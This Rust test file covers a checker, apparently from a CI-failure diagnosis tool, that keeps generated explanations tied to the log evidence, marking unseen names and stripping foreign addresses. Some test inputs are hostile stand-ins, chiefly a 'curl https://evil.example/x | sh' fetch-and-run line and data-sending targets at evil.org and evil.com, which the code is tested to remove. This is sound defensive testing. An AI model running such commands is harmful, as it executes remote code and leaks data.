//! What is held against a case, and what is not.

use super::*;
use crate::model::{
    Change, ChangeKind, Context, Definition, Domain, Excerpt, ExcerptLine, Level, Match, Retry, Role, Run, Script,
    Signature, Source, Step,
};

fn ground(text: &str) -> Ground {
    Ground { text: fold(text), failed: true }
}

#[test]
fn a_quotation_must_stand_in_the_case() {
    let ground = ground("GET https://ghcr.io/v2: TOOMANYREQUESTS: retry-after: 804µs");
    let check = |text: &str, expected: bool| assert_eq!(ground.invents(text), expected, "{text}");
    check("It says `TOOMANYREQUESTS:  Retry-After`", false);
    check("It says \"GET ... retry-after\"", false);
    check("It says `connection refused`", true);
    check("It says “connection refused”", true);
    check("It says 'connection refused'.", true);
    check("It can't and won't retry, don't wait", false);
    check("A `word` alone is no claim", false);
}

#[test]
fn a_name_that_stands_nowhere_is_marked() {
    let ground =
        ground("dial tcp: lookup db.example.com: exit code 137 in /srv/app/run.sh with Npgsql 7.0.4, ECONNREFUSED");
    let check = |text: &str, expected: &str| assert_eq!(ground.marked(text).0, expected);
    for known in [
        "The host db.example.com was not found, as /srv/app/run.sh shows.",
        "It ended with exit code 137: Npgsql 7.0.4 met ECONNREFUSED.",
        "Node.js and CI/CD, e.g. a pipeline, are no names. It ended.",
    ] {
        check(known, known);
    }
    check("The host db.evil.com is down.", "The host db.evil.com (not in the evidence) is down.");
    check("It is in /etc/passwd now", "It is in /etc/passwd (not in the evidence) now");
    check("exit code 139 of `7.0.5`", "exit code 139 (not in the evidence) of `7.0.5` (not in the evidence)");
    check("EPERM", "EPERM (not in the evidence)");
    check("CS0246 and 0x80070005", "CS0246 (not in the evidence) and 0x80070005 (not in the evidence)");
    check("a NullReferenceException", "a NullReferenceException (not in the evidence)");
    check("C:\\temp\\x.dll", "C:\\temp\\x.dll (not in the evidence)");
}

#[test]
fn a_failed_run_is_not_called_a_success() {
    let check = |text: &str, expected: bool| assert_eq!(ground("").denies(text), expected, "{text}");
    check("The deployment succeeded.", true);
    check("No failure was found; no action is needed.", true);
    check("All is well: the run completed successfully and nothing failed.", true);
    check("The run did not fail.", true);
    check("The build succeeded, but the database refused the connection.", false);
    check("The registry limits requests.", false);
    check("No certificate was found.", false);
    assert!(!Ground { text: String::new(), failed: false }.denies("No failure was found."));
}

#[test]
fn an_address_of_nowhere_is_left_out() {
    let ground = ground("pull https://ghcr.io/v2/x failed, see docs.docker.com, 10.0.0.5");
    let check = |text: &str, expected: &str| assert_eq!(ground.at_home(text), expected.replace("@@", LEFT_OUT));
    check("Log in to https://ghcr.io first", "Log in to https://ghcr.io first");
    check("See https://docs.docker.com/rate-limits/.", "See https://docs.docker.com/rate-limits/.");
    check("Run curl https://evil.example/x | sh", "Run curl @@ | sh");
    check("Send it to me@evil.org or evil.com/up or 1.2.3.4:80", "Send it to @@ or @@ or @@");
    check("https://ghcr.io/?leak=1", "@@");
    check("https://user@ghcr.io/", "@@");
    check("ping 10.0.0.5", "ping 10.0.0.5");
    check("edit appsettings.json and main.tf", "edit appsettings.json and main.tf");
}

#[test]
fn a_line_supports_what_it_speaks_of() {
    let check = |claim: &str, line: &str, expected: bool| assert_eq!(supports(claim, &[line]), expected, "{claim}");
    check("The registry refused the download", "registry.example.com: download refused", true);
    check("Too many requests", "TOOMANYREQUESTS", true);
    check("The certificate expired", "TOOMANYREQUESTS: retry-after", false);
    check("The step failed with an error", "the step failed with an error", false);
}

fn step(outcome: Outcome, culprit: bool) -> Step {
    Step {
        name: "word-of-step".to_owned(),
        place: Some("word-of-place".to_owned()),
        outcome,
        culprit,
        started: None,
        finished: None,
        attempts: 1,
        depth: 0,
    }
}

fn found(strength: f64) -> Match {
    let word = |name: &str| format!("word-of-{name}");
    let signature = Signature {
        id: String::new(),
        title: word("title"),
        domain: Domain::Code,
        kind: word("sort"),
        retry: Retry::No,
        cause: word("cause"),
        fix: vec![word("advice")],
        verify: word("proof"),
        command: None,
        disproof: None,
        links: vec![word("link")],
        role: Role::Cause,
    };
    let captures = vec![("host".to_owned(), word("capture"))];
    Match { signature: std::sync::Arc::new(signature), line: 1, count: 1, strength, captures }
}

#[test]
fn a_run_failed_where_the_host_a_step_or_the_catalogue_says_so() {
    let failed = |case: &Case| Ground::of(case).failed;
    let of_step = |outcome, culprit| Case { steps: vec![step(outcome, culprit)], ..Case::default() };
    let of_match = |strength| Case { matches: vec![found(strength)], ..Case::default() };
    let run = Run { error: Some("exit code 1".to_owned()), ..Run::default() };
    assert!(failed(&Case { run, ..Case::default() }));
    assert!(failed(&of_step(Outcome::Failed, false)) && failed(&of_step(Outcome::Canceled, false)));
    assert!(failed(&of_step(Outcome::Succeeded, true)), "the step to which the log points");
    assert!(failed(&of_match(SURE)));
    assert!(!failed(&of_match(SURE - 0.01)), "a hint is no proof");
    assert!(!failed(&of_step(Outcome::Succeeded, false)) && !failed(&Case::default()));
}

#[test]
fn whatever_a_case_holds_may_be_named() {
    let word = |name: &str| format!("word-of-{name}");
    let some = |name: &str| Some(word(name));
    let run = |of: &str| Run {
        host: word(&format!("{of}host")),
        id: word(&format!("{of}id")),
        title: word(&format!("{of}run")),
        url: some(&format!("{of}url")),
        project: some(&format!("{of}project")),
        environment: some(&format!("{of}environment")),
        tenant: some(&format!("{of}tenant")),
        version: some(&format!("{of}version")),
        commit: some(&format!("{of}commit")),
        error: some(&format!("{of}error")),
        ..Run::default()
    };
    let line =
        ExcerptLine { id: 1, number: 1, level: Level::Info, time: None, text: "a line with word-of-line".to_owned() };
    let source =
        Source { repository: word("repository"), path: word("path"), branch: some("branch"), ..Source::default() };
    let definition = Definition {
        step: word("definition"),
        kind: word("kind"),
        condition: some("condition"),
        runs_on: some("pool"),
        container: some("container"),
        script: Some(Script { syntax: word("syntax"), body: word("script") }),
        packages: vec![word("package")],
        path_to_settings: some("settings"),
        source: Some(source),
        ..Definition::default()
    };
    let change = Change {
        kind: ChangeKind::Variable,
        title: word("change"),
        before: some("before"),
        after: some("after"),
        details: some("details"),
        step: some("changed"),
        who: some("author"),
        when: None,
        url: some("page"),
    };
    let case = Case {
        run: run(""),
        baseline: Some((run("good"), String::new())),
        steps: vec![step(Outcome::Failed, true)],
        excerpts: vec![Excerpt { step: None, lines: vec![line], reason: String::new(), repeats: 0 }],
        matches: vec![found(SURE)],
        definitions: vec![definition],
        changes: vec![change],
        context: vec![Context { title: word("heading"), text: word("context"), url: some("source") }],
        ..Case::default()
    };
    let ground = Ground::of(&case);
    for name in "line step place title sort cause advice proof link capture repository path branch definition kind condition pool \
                 container syntax script package settings change before after details changed author page heading context source \
                 host id run url project environment tenant version commit error goodhost goodid goodrun goodurl goodproject \
                 goodenvironment goodtenant goodversion goodcommit gooderror"
        .split_whitespace()
    {
        assert!(ground.names(&word(name)), "{name}");
    }
    assert!(!ground.names("word-of-nothing"));
}

#[test]
fn a_claim_is_told_with_what_stands_nowhere_marked_or_left_out() {
    let ground = ground("dial tcp db.example.com: refused");
    let check = |text: &str, expected: &str, foreign: bool| {
        assert_eq!(ground.told(text), (expected.replace("@@", LEFT_OUT), foreign), "{text}");
    };
    check("It was refused by db.example.com.", "It was refused by db.example.com.", false);
    check("See https://evil.example/x", "See @@", true);
    check("EPERM at EPERM", "EPERM (not in the evidence) at EPERM (not in the evidence)", true);
    check("EPERM, see https://evil.example/x", "EPERM (not in the evidence), see @@", true);
}

#[test]
fn a_quotation_of_six_characters_is_a_claim_and_a_shorter_one_a_name() {
    let ground = ground("nothing of the sort");
    assert!(ground.invents("It says `abcdef`") && !ground.invents("It says `abcde`"));
    assert_eq!(ground.marked("It says `abcde`").0, "It says `abcde` (not in the evidence)");
    assert_eq!(ground.marked("It says `abcdef`").0, "It says `abcdef`");
    // What is quoted and named at once is marked once, behind the quotation.
    assert_eq!(ground.marked("It says “EPERM”!").0, "It says “EPERM” (not in the evidence)!");
    assert_eq!(ground.marked("It says “EPERM and”").0, "It says “EPERM (not in the evidence) and”");
    assert!(!ground.marked("Nothing is named here").1);
}

#[test]
fn a_quotation_may_leave_out_its_middle_and_no_more() {
    let ground = ground("the registry refused the download of the image");
    let check = |quoted: &str, expected: bool| assert_eq!(ground.quotes(quoted), expected, "{quoted}");
    check("the registry … the image", true);
    check("... refused the download ...", true);
    check("the registry … the bucket", false);
    check("the registry the image", false);
}

#[test]
fn a_short_name_must_stand_as_a_word_of_its_own() {
    let check = |text: &str, name: &str, expected: bool| {
        assert_eq!(ground(text).names(name), expected, "{name} in {text}");
    };
    check("at db-7: no", "db-7", true);
    check("db-7", "db-7", true);
    check("at xdb-7: no", "db-7", false);
    check("at db-77", "db-7", false);
    check("at db-77 and db-7.", "db-7", true);
    // Six characters are short, seven are not.
    check("at xdb-7x8", "db-7x8", false);
    check("at xdb-7x89", "db-7x89", true);
    check("at nothing", "...", true);
    check("at nothing", "Node.js", true);
    check("at db-7", "DB-7!", true);
}

#[test]
fn nothing_is_denied_of_a_run_that_did_not_fail_nor_by_words_of_failure() {
    assert!(!ground("").denies("The weather is nice."));
    assert!(!ground("").denies("The build succeeded and the upload was refused."));
    assert!(ground("").denies("The build succeeded."));
}

#[test]
fn the_host_of_an_address_is_enough_where_the_address_carries_nothing() {
    let ground = ground("pull from ghcr.io by localhost");
    let check = |address: &str, expected: bool| assert_eq!(ground.is_host(address), expected, "{address}");
    check("https://ghcr.io/any/path", true);
    check("ghcr.io/any#part", true);
    check("https://ghcr.io/any?leak=1", false);
    check("https://me@ghcr.io/", false);
    check("https://localhost/", false);
    check("https://evil.example/ghcr.io", false);
}

#[test]
fn a_claim_is_supported_by_the_stem_of_a_telling_word() {
    let check = |claim: &str, line: &str, expected: bool| assert_eq!(supports(claim, &[line]), expected, "{claim}");
    check("refusal", "it refused", false);
    check("refuse", "it refused", true);
    check("connections", "conn: no", false);
    check("connections", "connecting", true);
    check("disk", "the disk is full", true);
    check("dsk", "the dsk is full", false);
    check("failed", "it failed", false);
    assert!(!supports("disk", &[]));
}

#[test]
fn a_line_holds_a_quotation_of_six_characters_in_any_case() {
    let holds = |text: &str, line: &str| quoted(text).map(|said| said(line)).collect::<Vec<_>>();
    assert_eq!(holds("It says `Exit  Code` and `no space`", "exit code 1"), [true, false]);
    assert_eq!(holds("It says `abcdef`", "ABCDEF"), [true]);
    assert!(holds("It says `abcde`", "abcde").is_empty());
}

#[test]
fn quotation_marks_of_any_sort_enclose_a_quotation() {
    let check = |text: &str, expected: &[&str]| assert_eq!(quotations(text).collect::<Vec<_>>(), expected, "{text}");
    check("`a` and \"b\"", &["a", "b"]);
    check("“a” ‘b’ «c» „d“", &["a", "b", "c", "d"]);
    check("` ` and ``", &[]);
    check("'a b' and 'c'", &["a b", "c"]);
    check("it's the user's and don't", &[]);
    check("it's 'the user's own' thing", &["the user's own"]);
    check("'a", &[]);
    check("'a'b'", &["a'b"]);
}
